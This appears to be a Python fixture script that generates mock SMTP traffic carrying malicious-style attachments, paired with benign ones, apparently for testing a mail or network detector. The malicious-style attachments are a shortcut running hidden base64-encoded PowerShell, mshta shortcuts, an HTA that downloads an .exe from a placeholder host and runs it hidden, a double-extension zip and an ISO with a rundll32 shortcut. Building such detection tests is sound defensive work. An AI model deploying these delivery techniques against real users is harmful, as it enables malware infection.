import base64
import io
import zipfile

from traffic import *

PORTS = iter(range(40000, 41000))


def mail(subject, name, data):
    """A mail with one attachment, from outside to the office's server."""
    c = Tcp("203.0.113.9", next(PORTS), "10.0.0.5", 25)
    c.open()
    c.reply(b"220 mx.example ESMTP\r\n")
    for said, answer in [
        (b"EHLO relay.example\r\n", b"250 mx.example\r\n"),
        (b"MAIL FROM:<office@partner.example>\r\n", b"250 ok\r\n"),
        (b"RCPT TO:<bob@embassy.example>\r\n", b"250 ok\r\n"),
        (b"DATA\r\n", b"354 go on\r\n"),
    ]:
        c.send(said)
        c.reply(answer)
    text = f"Subject: {subject}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=B\r\n\r\n"
    text += "--B\r\nContent-Type: text/plain\r\n\r\nPlease see the attachment.\r\n"
    text += f'--B\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="{name}"\r\n'
    text += "Content-Transfer-Encoding: base64\r\n\r\n"
    body = text.encode() + base64.encodebytes(data).replace(b"\n", b"\r\n") + b"--B--\r\n.\r\n"
    for at in range(0, len(body), 1200):
        c.send(body[at : at + 1200])
    c.reply(b"250 queued\r\n")
    c.close()


def shortcut(command):
    """A shortcut's header, and its command line as it stands there."""
    head = bytes.fromhex("4c0000000114020000000000c000000000000046") + struct.pack("<I", 0xA0) + bytes(52)
    return head + struct.pack("<H", len(command)) + command.encode("utf-16-le")


def archive(*names):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as files:
        for name in names:
            files.writestr(zipfile.ZipInfo(name), b"MZ" + bytes(300))
    return out.getvalue()


def disc(holds):
    return (bytes(0x8000) + b"\1CD001\1" + bytes(0x7F9) + holds).ljust(0xA000, b"\0")


ENCODED = base64.b64encode("Start-Process calc.exe".encode("utf-16-le")).decode()
POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
lure = shortcut(f"{POWERSHELL} -w hidden -enc {ENCODED}")
# A shortcut with a command in base64; one with a script in a file; and the command in a text.
mail("minutes", "minutes.lnk", lure)
mail("backup", "backup.lnk", shortcut(f"{POWERSHELL} -ExecutionPolicy RemoteSigned -File C:\\backup\\nightly.ps1"))
mail("how to", "howto.txt", f"{POWERSHELL} -enc {ENCODED}".encode("utf-16-le"))
# A shortcut to a script elsewhere, and to a page on the disc.
mail("invoice", "invoice.lnk", shortcut(r"C:\Windows\System32\mshta.exe https://cdn.example/i"))
mail("manual", "manual.lnk", shortcut(r"C:\Windows\System32\mshta.exe C:\Tools\manual.hta"))
# A page that writes a program and starts it, and one that only shows something.
page = b"""<html><head><hta:application windowstate="minimize"><script>
var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "https://cdn.example/a", false); x.send();
var s = new ActiveXObject("ADODB.Stream"); s.Type = 1; s.Open(); s.Write(x.responseBody); s.SaveToFile("C:\\\\Users\\\\Public\\\\a.exe", 2);
new ActiveXObject("WScript.Shell").Run("C:\\\\Users\\\\Public\\\\a.exe", 0);
</script></head></html>
"""
mail("form", "form.hta", page)
mail("sheet", "sheet.hta", b'<html><script>new ActiveXObject("WScript.Shell").Popup("The office is closed today");</script></html>')
# An archive with a program that is named as a document, and one with a document beside a program.
mail("report", "report.zip", archive("notes.txt", "report.pdf                    .exe"))
mail("tools", "tools.zip", archive("tools.pdf", "tools.exe"))
# A disc image with a shortcut, and one without.
mail("scan", "scan.iso", disc(shortcut("C:\\Windows\\System32\\rundll32.exe scan.dll,Start")))
mail("disc", "disc.iso", disc(b"README"))
write()
